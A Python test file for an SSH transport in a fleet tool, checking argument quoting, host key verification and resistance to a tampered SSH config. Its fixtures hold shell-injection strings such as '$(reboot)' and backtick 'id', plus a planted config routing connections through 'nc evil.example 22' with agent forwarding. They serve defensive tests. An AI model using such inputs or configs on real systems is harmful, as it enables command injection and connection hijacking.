"""SshTransport's logic that needs no host: quoting of argv, refusals before connecting."""

from __future__ import annotations

import shlex
import subprocess
from dataclasses import dataclass, field

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edrfleet.fleet.transport.base import HostKeyError, Unreachable
from edrfleet.fleet.transport.ssh import SshTransport


@dataclass
class H:
    name: str
    vars: dict = field(default_factory=dict)


HOSTILE = ["it's", '"', "$(reboot)", "`id`", "a;b|c&d", "x\ny", "*", "", " ", "\\", "!$"]


def test_command_line_quotes_every_word_so_sh_splits_it_back(tmp_path):
    t = SshTransport(H("h", {"ansible_user": "ops", "ansible_become": True}), tmp_path)
    line = t.command_line(["printf", *HOSTILE])
    assert shlex.split(line) == ["sudo", "-n", "--", "printf", *HOSTILE]


@pytest.mark.parametrize("argv, message", [
    (["echo", "a\0b"], "NUL"),
    ("echo hi", "non-empty list"),
    ([], "non-empty list"),
    (["echo", b"bytes"], "not a string"),
])
def test_command_line_refuses_what_cannot_be_sent_intact(tmp_path, argv, message):
    with pytest.raises(ValueError, match=message):
        SshTransport(H("h"), tmp_path).command_line(argv)


def test_a_missing_key_file_makes_the_host_unreachable_without_connecting(tmp_path):
    t = SshTransport(H("h", {"ansible_host": "192.0.2.1",
                          "ansible_ssh_private_key_file": str(tmp_path / "nokey")}), tmp_path)
    with pytest.raises(Unreachable, match="nokey does not exist"):
        t.run(["true"])


def test_no_ssh_config_file_changes_where_or_how_we_connect(tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "config").write_text(
        "Host *\n  HostName evil.example\n  Port 2222\n  User mallory\n"
        "  ProxyCommand nc evil.example 22\n  ForwardAgent yes\n")
    monkeypatch.setenv("HOME", str(home))
    t = SshTransport(H("web1", {"ansible_host": "10.0.0.9", "ansible_user": "ops"}), tmp_path)
    from edrfleet.fleet.transport import known_hosts as kh

    conn = t._connection(t.settings.target, kh.KnownHosts([]), None)
    assert (conn.host, conn.port, conn.user) == ("10.0.0.9", 22, "ops")
    assert not conn.gateway and not conn.forward_agent and "sock" not in conn.connect_kwargs
    assert t.settings.known_hosts_files[0] == home / ".ssh" / "known_hosts"


def test_fabrics_auto_add_policy_is_replaced_by_the_verifier(tmp_path):
    import paramiko

    from edrfleet.fleet.transport import known_hosts as kh

    t = SshTransport(H("web1", {"ansible_host": "10.0.0.9"}), tmp_path)
    conn = t._connection(t.settings.target, kh.KnownHosts([]), None)
    assert not isinstance(conn.client._policy, paramiko.AutoAddPolicy)
    assert type(conn.client._policy).__name__ == "HostKeyVerifier"
    assert not conn.client.get_host_keys().keys()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\0",
                                               blacklist_categories=("Cs",)),
                        max_size=12), min_size=1, max_size=5))
def test_any_words_survive_a_real_posix_shell(tmp_path_factory, words):
    # What the remote login shell does with the line: parse it (dash and bash here).
    line = SshTransport(H("h"), tmp_path_factory.getbasetemp()).command_line(
        ["printf", "%s\\0", *words])
    for shell in ("/bin/sh", "/bin/bash"):
        out = subprocess.run([shell, "-c", line], capture_output=True, check=True).stdout
        assert out.decode().split("\0")[:-1] == words, shell


def test_an_unreadable_known_hosts_fails_the_host_naming_the_file(tmp_path):
    kh_dir = tmp_path / "known_hosts"
    kh_dir.mkdir()  # a directory: reading it fails with an OSError
    t = SshTransport(H("web1", {"ansible_host": "192.0.2.1"}), tmp_path)
    with pytest.raises(HostKeyError, match=f"web1: cannot read known_hosts {kh_dir}"):
        t.open()


class RacyChannel:
    """A channel whose data, EOF and close all land just after the first readiness check
    (what the transport thread can do between two of our calls on a loaded machine)."""

    def __init__(self) -> None:
        import threading

        self.closed = self.eof_received = False
        self.status_event = threading.Event()
        self.out = b""
        self.checks = 0

    def recv_stderr_ready(self) -> bool:
        return False

    def recv_ready(self) -> bool:
        self.checks += 1
        if self.checks == 1:  # nothing yet... and then everything at once
            self.out, self.eof_received, self.closed = b"lab01-0\n", True, True
            self.status_event.set()
            return False
        return bool(self.out)

    def recv(self, n: int) -> bytes:
        data, self.out = self.out[:n], self.out[n:]
        return data

    def send_ready(self) -> bool:
        return True

    def shutdown_write(self) -> None:
        pass

    def recv_exit_status(self) -> int:
        return 0

    def get_transport(self):
        return None


def test_output_that_lands_together_with_close_is_not_lost():
    import time

    from edrfleet.fleet.transport.ssh import _pump

    out, err, rc = _pump(RacyChannel(), b"", time.monotonic() + 5)
    assert (out, err, rc) == (b"lab01-0\n", b"", 0)
